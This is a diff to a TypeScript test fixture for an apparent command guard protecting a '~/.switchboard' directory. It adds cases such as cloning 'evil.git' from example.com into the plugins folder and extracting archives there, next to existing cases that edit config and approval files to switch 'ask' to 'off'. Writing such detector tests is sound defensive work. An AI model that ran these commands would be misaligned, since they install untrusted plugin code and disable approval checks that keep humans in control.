@@ -100,6 +100,11 @@ export const profile: Case[] = [
   ['chown -R nobody ~/.switchboard', '(chown)'],
   ['touch ~/.switchboard/state/x', '(touch)'],
   ['mkdir -p ~/.switchboard/plugins/evil', '(mkdir)'],
+  ['git clone https://example.com/evil.git ~/.switchboard/plugins/evil', '(git clone)'],
+  ['git -C ~/.switchboard/plugins/bwrap pull', '(git -C)'],
+  ['tar -xzf plugin.tgz -C ~/.switchboard/plugins', '(tar -x)'],
+  ['tar xf plugin.tar --directory=$SWITCHBOARD_HOME/plugins', '(tar -x)'],
+  ['unzip -o plugin.zip -d ~/.switchboard/plugins/evil', '(unzip -d)'],
   ["printf ',s/ask/off/\\nw\\n' | ed -s ~/.switchboard/config.yaml", '(ed)'],
   ["vim -es -c '%s/ask/off/' -c wq ~/.switchboard/config.yaml", '(vim)'],
   ['jq .mode=1 ~/.switchboard/approvals.json | sponge ~/.switchboard/approvals.json', '(sponge)'],
@@ -376,5 +381,6 @@ export const safe: string[] = [
   'cat core.json', 'cat ~/.switchboard/config.yaml', 'tail -n 20 ~/.switchboard/audit.jsonl', 'ls ~/.switchboard', 'echo x > ~/.switchboard-notes.txt',
   'cat ~/*/README.md', 'mkdir -p build/out', "sed -i 's/a/b/' src/app.ts", 'grep -rn TODO .', 'ls -R ~', 'find ~ -name "*.md"',
   'find ~/.switchboard -name "*.yaml"', 'du -sh ~', 'cp ~/notes.txt .',
+  'git clone https://example.com/lib.git vendor/lib', 'tar -xzf dist.tgz -C build', 'unzip -o data.zip -d data', 'git -C ../other status',
   'test -f ~/.switchboard/core.json && echo a Core runs', 'ls -l ~/.switchboard/core.json', 'stat $SWITCHBOARD_HOME/core.json',
 ];
